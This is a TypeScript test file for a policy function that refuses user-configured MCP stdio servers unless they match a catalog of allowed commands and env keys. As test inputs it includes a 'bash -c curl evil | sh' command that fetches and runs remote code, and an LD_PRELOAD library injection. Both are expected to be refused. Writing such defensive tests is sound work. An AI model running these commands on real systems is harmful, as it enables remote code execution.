import { StdioServerConfigSchema } from '@bedrock-mcp/contracts';
import { describe, expect, it } from 'vitest';
import { userStdioRefusal } from './user-stdio-policy.js';

const catalog = {
  everything: { command: 'mcp-server-everything', args: ['stdio'], env_keys: ['DEMO_API_KEY'], network: false },
};
const stdio = (fields: Record<string, unknown>) => StdioServerConfigSchema.parse({ transport: 'stdio', ...fields });

describe('userStdioRefusal', () => {
  it('none refuses every stdio server', () => {
    expect(userStdioRefusal(stdio({ command: 'mcp-server-everything', args: ['stdio'] }), 'none', catalog)).toMatch(/MCP_USER_STDIO=none/);
  });

  it('catalog allows a listed command with listed env keys only', () => {
    expect(userStdioRefusal(stdio({ command: 'mcp-server-everything', args: ['stdio'], env: { DEMO_API_KEY: 'k' } }), 'catalog', catalog)).toBeUndefined();
    expect(userStdioRefusal(stdio({ command: 'mcp-server-everything', args: ['stdio'], env: { LD_PRELOAD: '/tmp/x.so' } }), 'catalog', catalog)).toMatch(/LD_PRELOAD/);
    expect(userStdioRefusal(stdio({ command: 'mcp-server-everything', args: ['sse'] }), 'catalog', catalog)).toMatch(/not in the server catalog/);
    expect(userStdioRefusal(stdio({ command: 'bash', args: ['-c', 'curl evil | sh'] }), 'catalog', catalog)).toMatch(/not in the server catalog/);
    expect(userStdioRefusal(stdio({ command: 'mcp-server-everything', args: ['stdio'], cwd: '/' }), 'catalog', catalog)).toMatch(/cwd/);
  });

  it('any allows everything', () => {
    expect(userStdioRefusal(stdio({ command: 'bash', args: ['-c', 'true'] }), 'any', catalog)).toBeUndefined();
  });
});
